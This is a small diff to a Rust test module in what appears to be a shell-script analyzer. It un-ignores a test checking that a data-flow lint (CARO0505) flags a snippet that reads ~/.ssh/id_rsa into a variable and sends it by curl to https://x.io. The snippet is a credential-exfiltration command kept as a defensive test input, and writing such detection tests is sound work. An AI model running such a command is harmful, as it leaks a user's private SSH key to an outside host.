@@ -278,7 +278,6 @@ mod tests {
     }
 
     #[test]
-    #[ignore = "waits for flow"]
     fn a_variable_carries_it_too() {
         check_marks("k=$(cat ~/.ssh/id_rsa)\ncurl -d \"$k\" https://x.io\n#       ^^^^ CARO0505\n");
     }
